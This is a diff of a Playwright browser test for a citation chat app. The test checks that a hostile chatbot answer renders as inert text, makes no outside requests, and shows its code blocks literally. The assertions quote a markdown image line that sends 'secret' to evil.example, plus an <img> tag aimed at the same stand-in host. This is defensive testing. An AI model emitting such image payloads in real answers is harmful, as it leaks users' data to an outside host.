@@ -1,14 +1,12 @@
 """A hostile answer in the real chat, in a real browser: it is shown, and nothing in it is live."""
 
 from collections.abc import Iterator
-from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Page, expect, sync_playwright
+from playwright.sync_api import expect
 
-from tests.browser import chromium
 from tests.server import serving
+from tests.tabs import Tab
 
 pytestmark = pytest.mark.browser
 
@@ -22,36 +20,27 @@ CODE = 'A[<img src=x>] --> B\n\nif a[1] < 2: return "&lt;"'
 ANSWER = DOCUMENT.split("\n\n", 1)[1] + f"\nUse `x[0] < 3 && '<b>'` so:\n```mermaid\n{CODE}\n```\nThat is **all**."
 
 
-@pytest.fixture
-def page(tmp_path: Path) -> Iterator[Page]:
-    (tmp_path / "notes.md").write_text(DOCUMENT)
-    (tmp_path / "answer.txt").write_text(ANSWER)
-    files = str(tmp_path / "answer.txt"), "0", str(tmp_path / "notes.md")
-    with (
-        serving(tmp_path / "library", tmp_path, *files, program=["tests.scripted_app"]) as address,
-        sync_playwright() as playwright,
-    ):
-        browser = playwright.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
-        page = browser.new_page()
-        page.goto(address)
-        yield page
-        browser.close()
+@pytest.fixture(scope="module")
+def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "notes.md").write_text(DOCUMENT)
+    (folder / "answer.txt").write_text(ANSWER)
+    files = str(folder / "answer.txt"), "0", str(folder / "notes.md")
+    with serving(folder / "library", folder, *files, program=["tests.scripted_app"]) as url:
+        yield url
 
 
-def test_an_answer_of_hostile_text_loads_nothing_links_nowhere_and_shows_its_code(page: Page) -> None:
-    hosts: set[str] = set()
-    page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname or ""))
-    page.locator("#cw-question textarea").fill("What do the notes say to see?")
-    page.locator("#cw-question textarea").press("Enter")
-    chat = page.locator("#cw-chat")
-    expect(chat).to_contain_text("That is all.", timeout=30_000)
-    expect(page.locator("#cw-quotes .cw-title")).to_have_text("Quotes", timeout=30_000)
+def test_an_answer_of_hostile_text_loads_nothing_links_nowhere_and_shows_its_code(tab: Tab) -> None:
+    tab.ask("What do the notes say to see?")
+    chat = tab.page.locator("#cw-chat")
+    expect(chat).to_contain_text("That is all.")
+    expect(tab.page.locator("#cw-quotes .cw-title")).to_have_text("Quotes")
     bot = chat.locator(".bot")
     expect(bot).to_contain_text("![pixel](http://evil.example/?q=secret)")
     expect(bot).to_contain_text('<img src="http://evil.example/x.png"')
     assert bot.locator("strong").inner_text() == "all"
     assert bot.locator("code").all_inner_texts() == ["x[0] < 3 && '<b>'", CODE]
-    for part in (bot.locator(".prose"), page.locator("#cw-quotes")):
+    for part in (bot.locator(".prose"), tab.page.locator("#cw-quotes")):
         assert part.locator("a, img, script, iframe, svg.mermaid").count() == 0
-    assert page.title() == "Citewell"
-    assert hosts == {"127.0.0.1"}
+    assert tab.page.title() == "Citewell"
+    assert tab.hosts == {"127.0.0.1"}
